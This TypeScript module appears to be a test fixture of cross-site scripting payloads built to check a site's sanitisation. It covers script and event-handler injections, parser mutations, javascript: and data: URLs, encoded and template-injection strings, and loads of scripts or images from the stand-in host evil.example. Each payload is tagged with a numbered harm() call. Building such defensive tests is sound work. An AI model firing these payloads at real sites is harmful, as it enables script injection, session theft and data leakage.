/**
 * Texts and addresses by which somebody might make a page run a script, or ask another host. HARM stands for the script: a
 * call that says which of them ran.
 */

/** Nobody answers there: whatever is asked of it was asked by an attack. */
export const EVIL_HOST = 'evil.example'

const SCRIPTS = [
  '<script>HARM</script>',
  '<ScRiPt>HARM</sCrIpT>',
  '<script/x>HARM</script>',
  '<script type=module>HARM</script>',
  '<<script>HARM//<</script>',
  '</title><script>HARM</script>',
  '</textarea><script>HARM</script>',
  '</script><script>HARM</script>',
  '</style><script>HARM</script>',
  '--><script>HARM</script>',
  ']]><script>HARM</script>',
  '"><script>HARM</script>',
  "'><script>HARM</script>",
  '<script src=//evil.example/x.js></script>',
  '<svg><script>HARM</script></svg>',
  '<svg><script href="data:text/javascript,HARM" />',
] as const

const HANDLERS = [
  '<img src=x onerror=HARM>',
  '<img/src=x/onerror=HARM>',
  '<IMG SRC=x ONERROR="HARM">',
  '<image src=x onerror=HARM>',
  '"><img src=x onerror=HARM>',
  "'><img src=x onerror=HARM>",
  '<img src=x onerror=&#104;ARM>',
  '<img src=x\tonerror=HARM>',
  '<svg onload=HARM>',
  '<svg/onload=HARM//',
  '<svg><animate onbegin=HARM attributeName=x dur=1s>',
  '<svg><set onbegin=HARM attributeName=x dur=1s>',
  '<svg><style><img src=x onerror=HARM>',
  '<body onload=HARM>',
  '<body onpageshow=HARM>',
  '<details open ontoggle=HARM>',
  '<video src=x onerror=HARM>',
  '<video><source onerror=HARM>',
  '<audio src=x onerror=HARM>',
  '<input autofocus onfocus=HARM>',
  '<button autofocus onfocus=HARM>',
  '<marquee onstart=HARM>',
  '<iframe onload=HARM>',
  '<object data=x onerror=HARM>',
  '<link rel=stylesheet href=x onerror=HARM>',
  '<style>@keyframes a{}</style><b style="animation:a 1s" onanimationstart=HARM>',
  '" onpointerenter=HARM autofocus onfocus=HARM x="',
  '<xss id=x tabindex=1 autofocus onfocus=HARM>',
] as const

/** What a parser makes of it once is not what it makes of it twice. */
const MUTATIONS = [
  '<math><mtext><table><mglyph><style><img src=x onerror=HARM>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=HARM>',
  '<noscript><p title="</noscript><img src=x onerror=HARM>">',
  '<xmp><p title="</xmp><img src=x onerror=HARM>">',
  '<template shadowrootmode=open><img src=x onerror=HARM></template>',
  '<template><img src=x onerror=HARM></template>',
  '<select><style></select><img src=x onerror=HARM>',
  '<listing>&lt;img src=x onerror=HARM&gt;</listing>',
  '<table><td><svg><desc><td><title><img src=x onerror=HARM>',
  '<svg></p><style><a id="</style><img src=x onerror=HARM>">',
] as const

const FRAMES_AND_LINKS = [
  '<iframe srcdoc="<script>parent.HARM</script>">',
  '<iframe src="javascript:parent.HARM">',
  '<iframe src=//evil.example/>',
  '<object data="javascript:HARM"></object>',
  '<embed src="javascript:HARM">',
  '<meta http-equiv=refresh content="0;url=//evil.example/">',
  '<base href=//evil.example/>',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<link rel=preload as=image href=//evil.example/x.png>',
  '<style>@import "//evil.example/x.css"</style>',
  '<b style="background:url(//evil.example/x.png)">x',
  '<img src=//evil.example/x.png>',
  '<img srcset="//evil.example/x.png 1x">',
  '<video poster=//evil.example/x.png>',
  '<table background=//evil.example/x.png><td>x',
  '<a href="javascript:HARM">x</a>',
  '<a href="java&#9;script:HARM">x</a>',
  '<a href=&#1;javascript:HARM>x</a>',
  '<svg><a xlink:href="javascript:HARM"><text y=9>x',
  '<math href="javascript:HARM">x</math>',
  '<form action="javascript:HARM"><button>x',
  '<button formaction="javascript:HARM">x',
  '<a href=/ ping=//evil.example/>x</a>',
] as const

/** Markup to whoever decodes it first, code to whoever reads a template or a script. */
const CODED = [
  '&lt;script&gt;HARM&lt;/script&gt;',
  '&amp;lt;img src=x onerror=HARM&amp;gt;',
  '&#60;img src=x onerror=HARM&#62;',
  '%3Cscript%3EHARM%3C/script%3E',
  '\\u003cscript\\u003eHARM\\u003c/script\\u003e',
  '\\x3cimg src=x onerror=HARM\\x3e',
  '\uff1cscript\uff1eHARM\uff1c/script\uff1e',
  '+ADw-script+AD4-HARM+ADw-/script+AD4-',
  '{{constructor.constructor("HARM")()}}',
  "{{$on.constructor('HARM')()}}",
  '$'.concat('{HARM}'),
  '#{HARM}',
  '<%= HARM %>',
  '[[$'.concat('{HARM}]]'),
  "';HARM;//",
  '";HARM;//',
  "'-HARM-'",
  '\\";HARM;//',
  '*/HARM/*',
  '</script>\\";HARM//',
  '[x](javascript:HARM)',
  '![x](//evil.example/x.png)',
  '<javascript:HARM>',
  `javascript:/*--></title></style></textarea></script><svg onload=HARM>`,
  'jaVasCript:/*-/*`/*\\`/*"/**/(HARM)//</stYle/</titLe/--!>\\x3csVg/oNloAd=HARM//>',
  '__proto__',
] as const

const TEXTS: readonly string[] = [...SCRIPTS, ...HANDLERS, ...MUTATIONS, ...FRAMES_AND_LINKS, ...CODED]

const ADDRESS_SHAPES = [
  'javascript:HARM',
  'JaVaScRiPt:HARM',
  'java\tscript:HARM',
  'java\nscript:HARM',
  'javascript\t:HARM',
  ' javascript:HARM',
  '\u0001javascript:HARM',
  'javascript://%0aHARM',
  'javascript://shop.example.com/%0aHARM',
  'javascript&colon;HARM',
  '&#106;avascript:HARM',
  'javascript%3aHARM',
  'view-source:javascript:HARM',
  'feed:javascript:HARM',
  'vbscript:HARM',
  'data:text/html,<script>HARM</script>',
  'data:text/html;base64,PHNjcmlwdD5vcGVuZXIuaGFybSgwKTwvc2NyaXB0Pg==',
  "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='HARM'/>",
  'data:application/xhtml+xml,<x/>',
  'blob:https://evil.example/1',
  'filesystem:https://evil.example/temporary/x',
  'about:blank',
  'file:///etc/passwd',
  'ftp://evil.example/',
  'intent://evil.example/#Intent;end',
  'mailto:a@evil.example',
  '//evil.example/x.png',
  '///evil.example/x.png',
  '/\\evil.example/x.png',
  '\\\\evil.example\\x.png',
  'https:/\tevil.example/x.png',
  'https://user:secret@evil.example/x.png',
  '/art/x.svg" onerror="HARM',
  '/art/../api/auth/logout',
  '/pictures/offer/x" onerror="HARM',
  'https://evil.example/x.png',
  'https://evil.example/"onmouseover="HARM"/<script>HARM</script>',
  "https://evil.example/'><img src=x onerror=HARM>",
] as const

const armed = (texts: readonly string[], from: number): string[] =>
  texts.map((text, place) => {
    const call = `harm(${from + place})`
    return text.replaceAll('&#104;ARM', `&#104;${call.slice(1)}`).replaceAll('HARM', call)
  })

/** Each with a number of its own, by which it can be told which one ran. */
export const HOSTILE_TEXTS: readonly string[] = armed(TEXTS, 1000)
export const HOSTILE_ADDRESSES: readonly string[] = armed(ADDRESS_SHAPES, 2000)

/** Those that a field of so many characters takes. */
export const textsWithin = (max: number, texts: readonly string[] = HOSTILE_TEXTS): readonly string[] =>
  texts.filter((text) => text.length <= max)

/** The texts one after the other, in pieces of at most so many characters. */
export function joinedWithin(max: number, texts: readonly string[] = HOSTILE_TEXTS): readonly string[] {
  const pieces: string[] = []
  for (const text of texts) {
    const joined = `${pieces.at(-1) ?? ''} ${text}`
    if (pieces.length > 0 && joined.length <= max) pieces.splice(-1, 1, joined)
    else pieces.push(text)
  }
  return pieces
}
